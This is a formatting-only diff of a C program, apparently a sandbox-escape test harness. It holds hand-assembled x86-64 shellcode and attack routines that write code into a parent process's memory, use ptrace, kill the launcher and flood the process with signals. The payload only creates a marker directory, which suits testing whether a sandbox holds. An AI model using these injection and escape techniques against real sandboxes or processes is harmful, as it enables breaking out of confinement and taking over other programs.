@@ -48,14 +48,22 @@ static const char *err_name(int err)
 	static char buf[32];
 
 	switch (err) {
-	case EPERM: return "EPERM";
-	case EACCES: return "EACCES";
-	case ENOSYS: return "ENOSYS";
-	case ESRCH: return "ESRCH";
-	case EBADF: return "EBADF";
-	case EINVAL: return "EINVAL";
-	case EINTR: return "EINTR";
-	case EBUSY: return "EBUSY";
+	case EPERM:
+		return "EPERM";
+	case EACCES:
+		return "EACCES";
+	case ENOSYS:
+		return "ENOSYS";
+	case ESRCH:
+		return "ESRCH";
+	case EBADF:
+		return "EBADF";
+	case EINVAL:
+		return "EINVAL";
+	case EINTR:
+		return "EINTR";
+	case EBUSY:
+		return "EBUSY";
 	}
 	snprintf(buf, sizeof(buf), "errno%d", err);
 	return buf;
@@ -76,16 +84,28 @@ static size_t shellcode(unsigned char *buf, size_t len, const char *marker)
 
 	if (len < 40 + mlen)
 		exit(2);
-	buf[n++] = 0x48; buf[n++] = 0x8d; buf[n++] = 0x3d;	/* lea rdi,[rip+d] */
+	buf[n++] = 0x48;
+	buf[n++] = 0x8d;
+	buf[n++] = 0x3d; /* lea rdi,[rip+d] */
 	disp_at = n;
 	n += 4;
 	after_lea = n;
-	buf[n++] = 0xbe; put32(buf + n, 0700); n += 4;		/* mov esi, 0700 */
-	buf[n++] = 0xb8; put32(buf + n, SYS_mkdir); n += 4;	/* mov eax, mkdir */
-	buf[n++] = 0x0f; buf[n++] = 0x05;			/* syscall */
-	buf[n++] = 0xbf; put32(buf + n, 42); n += 4;		/* mov edi, 42 */
-	buf[n++] = 0xb8; put32(buf + n, SYS_exit_group); n += 4;
-	buf[n++] = 0x0f; buf[n++] = 0x05;
+	buf[n++] = 0xbe;
+	put32(buf + n, 0700);
+	n += 4; /* mov esi, 0700 */
+	buf[n++] = 0xb8;
+	put32(buf + n, SYS_mkdir);
+	n += 4; /* mov eax, mkdir */
+	buf[n++] = 0x0f;
+	buf[n++] = 0x05; /* syscall */
+	buf[n++] = 0xbf;
+	put32(buf + n, 42);
+	n += 4; /* mov edi, 42 */
+	buf[n++] = 0xb8;
+	put32(buf + n, SYS_exit_group);
+	n += 4;
+	buf[n++] = 0x0f;
+	buf[n++] = 0x05;
 	put32(buf + disp_at, (uint32_t)(n - after_lea));
 	memcpy(buf + n, marker, mlen);
 	return n + mlen;
@@ -145,7 +165,7 @@ static int attack_mem(pid_t ppid, const char *marker)
 	}
 	printf("mem: written at %#lx\n", pc);
 	fflush(stdout);
-	return 0;	/* our exit wakes the parent into the code */
+	return 0; /* our exit wakes the parent into the code */
 }
 
 static int attack_ptrace(const char *marker)
@@ -275,7 +295,7 @@ static int attack_listener(void)
 	};
 
 	if (fork() != 0) {
-		pause();	/* dies with the launcher */
+		pause(); /* dies with the launcher */
 		return 0;
 	}
 	if (kill(launcher, SIGKILL) < 0)
@@ -312,7 +332,7 @@ static void on_alarm(int sig)
 
 static int attack_eintr(const char *marker)
 {
-	struct sigaction sa = { .sa_handler = on_alarm };	/* no SA_RESTART */
+	struct sigaction sa = { .sa_handler = on_alarm }; /* no SA_RESTART */
 	struct itimerval storm = { { 0, 50 }, { 0, 50 } };
 
 	sigaction(SIGALRM, &sa, NULL);
@@ -374,6 +394,7 @@ int main(int argc, char **argv)
 		return attack_eintr(marker);
 	if (!strcmp(a, "tracer") && argc == 3)
 		return attack_tracer(marker);
-	fprintf(stderr, "usage: escape mem|ptrace|eintr|tracer MARKER | vmwrite | getfd | listener\n");
+	fprintf(stderr,
+		"usage: escape mem|ptrace|eintr|tracer MARKER | vmwrite | getfd | listener\n");
 	return 2;
 }
